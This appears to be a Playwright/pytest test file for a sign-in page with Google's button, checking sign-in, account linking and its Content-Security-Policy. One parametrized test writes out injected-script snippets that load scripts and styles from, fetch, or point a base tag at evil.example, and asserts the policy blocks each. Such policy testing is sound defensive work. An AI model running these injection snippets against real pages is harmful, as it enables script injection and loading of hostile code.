"""The sign-in page with Google's button.

Google's own script cannot be had here: a stand-in asks the browser for what Google documents.
"""

from __future__ import annotations

import re
from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Page, Route, expect

from tests.support.browser import open_page
from tests.support.emulator import Emulator, running_emulator
from tests.support.google import CLIENT_ID, SIGN_IN_SOURCE, Providers
from tests.support.sign_in_page import PASSWORD, is_signed_in, log_in, sign_up

WITH_GOOGLE = (
    "default-src 'none'; script-src 'self' https://accounts.google.com/gsi/client; "
    "style-src 'self' https://accounts.google.com/gsi/style 'nonce-…'; "
    "connect-src 'self' https://accounts.google.com/gsi/; img-src data:; base-uri 'none'; "
    "form-action 'none'; frame-ancestors 'none'; frame-src https://accounts.google.com/gsi/"
)
STAND_IN = """
window.google = { accounts: { id: {
  initialize(options) { this.options = options; },
  renderButton(parent) {
    const add = (name, properties) => {
      const element = Object.assign(document.createElement(name), properties);
      parent.append(element);
      return element;
    };
    const { nonce } = document.querySelector("link[rel=stylesheet][nonce]");
    add("style", { nonce, textContent: ".stand-in { min-height: 44px }" });
    add("link", { rel: "stylesheet", href: "https://accounts.google.com/gsi/style" });
    add("iframe", { src: "https://accounts.google.com/gsi/button", hidden: true });
    fetch("https://accounts.google.com/gsi/log", { mode: "no-cors" });
    const button = add("button", { className: "stand-in", textContent: this.options.client_id });
    button.onclick = () => this.options.callback({ credential: "TOKEN" });
  },
} } };
"""


@pytest.fixture(scope="module")
def with_google(
    providers: Providers, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Emulator]:
    """An emulator that serves the page with Google's button."""
    settings = {"USERS_FILE": str(tmp_path_factory.mktemp("users") / "users.json")}
    settings |= {"SIGN_IN_PAGE": "true"} | providers.settings
    with running_emulator(source=SIGN_IN_SOURCE, **settings) as running:
        yield running


def _stand_in(page: Page, token: str) -> None:
    """Answer in Google's place, with a script that signs in with the token."""

    def answer(route: Route) -> None:
        if route.request.url.endswith("/gsi/client"):
            route.fulfill(content_type="text/javascript", body=STAND_IN.replace("TOKEN", token))
        else:
            route.fulfill(content_type="text/css", body="")

    page.route("https://accounts.google.com/gsi/**", answer)


def test_googles_button_signs_in_under_a_policy_that_allows_what_google_documents(
    browser: Browser, with_google: Emulator, providers: Providers, address: str
) -> None:
    with open_page(browser, with_google.url) as page:
        _stand_in(page, providers.google_token(email=address, sub=address))
        page.goto("/")
        page.get_by_role("button", name=CLIENT_ID).click()
        is_signed_in(page, address)
        expect(page.get_by_role("button", name=CLIENT_ID)).to_be_hidden()
    with with_google.client() as client:
        headers = client.get("/").headers
        policy = headers["Content-Security-Policy"]
        assert re.sub("nonce-[^']{20,}", "nonce-…", policy) == WITH_GOOGLE
        assert policy != client.get("/").headers["Content-Security-Policy"]
        assert headers["Cross-Origin-Opener-Policy"] == "same-origin-allow-popups"
        assert headers["Referrer-Policy"] == "no-referrer-when-downgrade"


def test_who_must_link_is_led_to_the_password_and_then_to_google(
    browser: Browser, with_google: Emulator, providers: Providers, address: str
) -> None:
    with open_page(browser, with_google.url) as page:
        _stand_in(page, providers.google_token(email=address, sub=address))
        page.goto("/")
        sign_up(page, address)
        page.get_by_role("button", name="Log out").click()
        page.get_by_role("button", name="Create an account").click()
        page.get_by_role("button", name=CLIENT_ID).click()
        expect(page.locator("#failure")).to_contain_text("Log in with its password first")
        expect(page.get_by_label("Email").locator("visible=true")).to_be_focused()
        log_in(page, address)
        is_signed_in(page, address)
        expect(page.locator("#with-google")).to_contain_text("Your password stays if you have")
        page.get_by_role("button", name=CLIENT_ID).click()
        expect(page.get_by_role("status")).to_have_text("You have signed in with Google.")
        is_signed_in(page, address)
        assert len(page.request.get("/api/account").json()["identities"]) == 1


def test_google_is_connected_only_to_whom_the_page_shows(
    browser: Browser, with_google: Emulator, providers: Providers, address: str
) -> None:
    with open_page(browser, with_google.url) as page:
        _stand_in(page, providers.google_token(email=f"google.{address}", sub=f"2{address}"))
        page.goto("/")
        expect(page.get_by_role("heading", name="Log in")).to_be_visible()
        body = {"email": address, "password": PASSWORD}
        assert page.request.post("/api/signup", data=body).status == 201
        page.get_by_role("button", name=CLIENT_ID).click()
        is_signed_in(page, address)
        assert page.request.get("/api/account").json()["identities"] == []


@pytest.mark.parametrize(
    ("directive", "attack"),
    [
        ("script-src-elem", "add('script', { src: 'https://accounts.google.com/other.js' })"),
        ("script-src-elem", "add('script', { src: 'https://accounts.google.com/gsi/other' })"),
        ("script-src-elem", "add('script', { src: 'https://evil.example/gsi/client' })"),
        ("script-src-elem", "add('script', { textContent: 'document.title = 1' })"),
        ("script-src-attr", "add('p', {}).setAttribute('onclick', 'document.title = 1')"),
        ("style-src-elem", "add('style', { textContent: 'p { color: red }' })"),
        ("style-src-elem", "add('link', { rel: 'stylesheet', href: 'https://evil.example/' })"),
        ("frame-src", "add('iframe', { src: 'https://accounts.google.com/o/oauth2/auth' })"),
        ("connect-src", "fetch('https://evil.example/').catch(() => {})"),
        ("img-src", "add('img', { src: 'https://evil.example/' })"),
        ("form-action", "document.forms[0].submit()"),
        ("base-uri", "add('base', { href: 'https://evil.example/' })"),
    ],
)
def test_with_google_no_more_is_allowed_than_that(
    with_google: Emulator, hostile: Page, directive: str, attack: str
) -> None:
    violated = hostile.evaluate(
        f"""() => new Promise((resolve) => {{
          const told = (event) => resolve(event.effectiveDirective);
          addEventListener("securitypolicyviolation", told, {{ once: true }});
          const add = (name, properties) => {{
            const element = Object.assign(document.createElement(name), properties);
            document.head.append(element);
            return element;
          }};
          {attack};
        }})"""
    )
    assert violated == directive


@pytest.fixture(scope="module")
def hostile(browser: Browser, with_google: Emulator) -> Iterator[Page]:
    """A page with Google's button in which an attacker's script runs already."""
    with browser.new_context(base_url=with_google.url) as context:
        page = context.new_page()
        _stand_in(page, "")
        page.goto("/")
        yield page
